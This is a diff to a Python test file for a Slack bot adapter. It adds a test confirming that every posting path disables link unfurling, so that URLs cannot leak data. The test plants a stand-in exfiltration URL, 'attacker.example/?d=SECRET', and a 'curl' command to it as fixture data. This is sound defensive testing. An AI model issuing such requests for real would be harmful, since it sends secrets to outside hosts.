@@ -158,7 +158,8 @@ async def test_a_refused_call_is_counted_for_metrics(mock_slack: MockSlack) -> N
     bot = RecordingBot()
     async with running_adapter(mock_slack, bot) as (adapter, _):
         with contextlib.suppress(Exception):
-            await adapter.client.chat_update(channel="C0GENERAL", ts="1.000404", text="x")
+            await adapter.client.chat_update(channel="C0GENERAL", ts="1.000404", text="x",
+                                             unfurl_links=False, unfurl_media=False)
     assert ("slack", "message_not_found") in bot.platform_errors
 
 
@@ -325,3 +326,34 @@ async def test_posts_in_one_channel_are_paced_and_other_channels_are_not_held(
     assert times[3] - times[0] >= 0.9 and times[5] - times[0] >= 2.8  # after the burst: 1/s
     [calm_at] = [c.at - start for c in posts if c.args["channel"] == "C0CALM"]
     assert calm_at < 0.9  # not behind the busy channel
+
+
+async def test_nothing_the_bot_sends_unfurls(mock_slack: MockSlack) -> None:
+    """An unfurl is fetched by Slack without a click: a URL with data in it would leak it.
+    Every path that puts the bot's text in Slack turns unfurls off."""
+    from slack_mock_api import POSTING_METHODS
+
+    bot = RecordingBot()
+    leak = "https://attacker.example/?d=SECRET"
+    async with running_adapter(mock_slack, bot) as (adapter, _):
+        thread = Scope(adapter="slack", workspace=TEAM, channel="C0GENERAL", thread=new_ts())
+        ref = await adapter.post(thread, f"see {leak}")
+        await adapter.edit(ref, f"now {leak}")
+        await adapter.edit(ref, f"now {leak}\n\n" + "x " * 2500)  # a second part: posted
+        await adapter.edit(ref, f"short {leak}")
+        await adapter.post(thread, f"# Title\n\n| a | b |\n|---|---|\n| {leak} | 2 |")
+        await adapter.notify(thread, leak)
+        await adapter.notify(thread, leak, user_id="U_ADA")  # ephemeral
+        stop = await adapter.show_stop(thread)
+        await adapter.hide_stop(stop)
+        await adapter.send_file(thread, "a.txt", b"x", comment=leak)
+        streamed = await adapter.start_stream(thread, f"streaming {leak}", user_id="U_ADA")
+        await adapter.stop_stream(streamed, " done")
+        await adapter.offer_feedback(streamed)
+        view = ApprovalView(request_id="r1", scope=thread, tool_name="Bash",
+                            input_summary=f"curl {leak}", requested_by="U_ADA")
+        prompt = await adapter.present_approval(view)
+        await adapter.resolve_approval(prompt, view, "Denied")
+    sent = {c.method for c in mock_slack.calls if c.method in POSTING_METHODS}
+    assert sent == POSTING_METHODS  # every kind of call was made
+    assert mock_slack.unfurling() == []
